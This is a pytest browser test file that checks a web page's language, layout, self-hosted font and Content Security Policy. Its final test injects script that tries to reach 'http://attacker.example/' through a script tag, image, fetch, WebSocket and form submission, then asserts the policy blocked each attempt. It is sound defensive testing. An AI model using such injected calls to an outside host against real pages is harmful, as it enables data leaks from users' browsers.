"""What only a browser shows: the language, what leaves, what goes wrong, and whether everyone can read it."""

from urllib.parse import urlsplit

import pytest

from tests.browser.visit import visit

LANGUAGES = ("en", "nl")
WIDTHS = (1280, 390)


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("width", WIDTHS)
def test_the_start_page(look, language, width):
    seen = look(language, width)
    assert seen.language() == language
    assert seen.findings() == []
    assert seen.page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), (
        "wider than the screen"
    )


def test_the_font_is_our_own(look):
    seen = look()
    loaded = seen.page.evaluate(
        "document.fonts.ready.then(() => [...document.fonts].filter(f => f.status === 'loaded').map(f => f.family))"
    )
    assert any("Source Sans 3" in family for family in loaded)


@pytest.mark.parametrize("source", ["script", "image", "request", "socket", "form"])
def test_the_page_cannot_reach_another_host(browser, program, source):
    """The policy itself, not the good manners of the page: a script in it tries, and nothing is sent."""
    tries = {
        "script": "document.head.append(Object.assign(document.createElement('script'), {src: TO}))",
        "image": "document.body.append(Object.assign(new Image(), {src: TO}))",
        "request": "fetch(TO).catch(() => {})",
        "socket": "try { new WebSocket(TO.replace('http', 'ws')) } catch {}",
        "form": "const f = document.createElement('form'); f.action = TO; document.body.append(f); f.submit()",
    }
    with visit(browser, program.address) as seen:
        seen.start()
        seen.page.evaluate(
            "window.refused = []; document.addEventListener('securitypolicyviolation', e => refused.push(e.blockedURI)); 0"
        )
        seen.page.evaluate(
            "() => {" + tries[source].replace("TO", "'http://attacker.example/'") + "; return 0}"
        )
        seen.page.wait_for_function("() => refused.length > 0", timeout=5000, polling=50)
        assert urlsplit(seen.page.evaluate("refused")[0]).hostname == "attacker.example"
